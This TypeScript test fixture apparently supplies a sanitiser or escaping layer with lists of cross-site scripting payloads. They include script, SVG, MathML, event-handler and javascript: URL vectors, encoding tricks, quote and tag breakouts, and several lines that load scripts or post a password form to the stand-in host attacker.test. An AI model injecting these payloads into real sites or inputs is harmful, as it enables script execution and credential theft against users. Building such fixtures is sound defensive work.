const attack = 'window.attacked=true';

/** Elements that run code where HTML is not cleaned. */
const elements = [
  `<script>${attack}</script>`,
  `<SCRIPT type="text/javascript">${attack}</SCRIPT >`,
  `<script src="https://attacker.test/x.js"></script>`,
  `<script type="module">${attack}</script>`,
  `<img src="x" onerror="${attack}">`,
  `<img/src=x/onerror=${attack}>`,
  `<img src=x onerror="&#119;indow.attacked=true">`,
  `<image src="x" onerror="${attack}">`,
  `<IMG """><SCRIPT>${attack}</SCRIPT>">`,
  `<svg onload="${attack}">`,
  `<svg/onload=${attack}>`,
  `<svg><script>${attack}</script></svg>`,
  `<svg><a xlink:href="javascript:${attack}"><text y="20">Bild</text></a></svg>`,
  `<svg><animate onbegin="${attack}" attributeName="x" dur="1s"></svg>`,
  `<svg><set attributeName="onmouseover" to="${attack}"></set></svg>`,
  `<svg><foreignObject><img src="x" onerror="${attack}"></foreignObject></svg>`,
  `<svg><use href="https://attacker.test/x.svg#x"></use></svg>`,
  `<svg><style><img src="x" onerror="${attack}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src="x" onerror="${attack}"></style></mglyph></table></mtext></math>`,
  `<math><a xlink:href="javascript:${attack}">Formel</a></math>`,
  `<body onload="${attack}">`,
  `<iframe src="javascript:parent.attacked=true"></iframe>`,
  `<iframe srcdoc="<script>parent.attacked=true</script>"></iframe>`,
  `<iframe src="https://attacker.test"></iframe>`,
  `<object data="https://attacker.test"></object>`,
  `<object data="javascript:${attack}"></object>`,
  `<embed src="https://attacker.test/x.swf">`,
  `<video src="x" onerror="${attack}"></video>`,
  `<video><source onerror="${attack}"></video>`,
  `<audio src="x" onerror="${attack}"></audio>`,
  `<input autofocus onfocus="${attack}">`,
  `<select autofocus onfocus="${attack}"></select>`,
  `<textarea autofocus onfocus="${attack}"></textarea>`,
  `<details open ontoggle="${attack}"><summary>mehr</summary></details>`,
  `<marquee onstart="${attack}">Laufschrift</marquee>`,
  `<link rel="stylesheet" href="https://attacker.test/x.css">`,
  `<style>@import "https://attacker.test/x.css";</style>`,
  `<meta http-equiv="refresh" content="0;url=https://attacker.test">`,
  `<base href="https://attacker.test/">`,
  `<form action="https://attacker.test"><input name="password"><button>Anmelden</button></form>`,
  `<button formaction="javascript:${attack}" form="f">Weiter</button>`,
  `<p style="background:url(https://attacker.test/x)">Absatz</p>`,
  `<div style="animation-name:x" onanimationstart="${attack}">Absatz</div>`,
  `<template><img src="x" onerror="${attack}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${attack}>"></noscript>`,
  `<a id="attributes" href="javascript:${attack}">Verweis</a>`,
  `<form id="attributes"><input name="attributes"></form>`,
];

/** Addresses that are none of the web. */
const links = [
  `<a href="javascript:${attack}">Link</a>`,
  `<a href="JaVaScRiPt:${attack}">Link</a>`,
  `<a href=" &#1; javascript:${attack}">Link</a>`,
  `<a href="java&#10;script:${attack}">Link</a>`,
  `<a href="java&Tab;script:${attack}">Link</a>`,
  `<a href="&#x6A;avascript:${attack}">Link</a>`,
  `<a href="data:text/html,<script>${attack}</script>">Link</a>`,
  `<a href="vbscript:MsgBox(1)">Link</a>`,
  `<a href="//attacker.test">ohne Protokoll</a>`,
  `<a href="https://example.de" onclick="${attack}">Link</a>`,
];

/** Formatted texts: none of them may reach a page as it is. */
export const hostileHtml: readonly string[] = [...elements, ...links];

/** Ends of an attribute, a tag, a script, a comment or a template, by which a text would leave its place. */
const breakouts = [
  `"><img src=x onerror=${attack}>`,
  `'><img src=x onerror=${attack}>`,
  `" autofocus onfocus="${attack}" x="`,
  `' autofocus onfocus='${attack}' x='`,
  `</title><script>${attack}</script>`,
  `</textarea><script>${attack}</script>`,
  `</script><script>${attack}</script>`,
  `--><script>${attack}</script><!--`,
  `]]><script>${attack}</script>`,
  `<![CDATA[<script>${attack}</script>]]>`,
  `';${attack};//`,
  `";${attack};//`,
  `\\";${attack};//`,
  `\${${attack}}`,
  `{{constructor.constructor('${attack}')()}}`,
  `javascript:${attack}`,
  `[Link](javascript:${attack})`,
  `\u2028${attack}\u2029`,
  `&lt;script&gt;${attack}&lt;/script&gt;`,
  `%3Cscript%3E${attack}%3C/script%3E`,
  `＜script＞${attack}＜/script＞`,
  `<scr\u0000ipt>${attack}</script>`,
];

/** What a customer may write, or somebody else in their name. */
export const hostileTexts: readonly string[] = [...hostileHtml, ...breakouts];
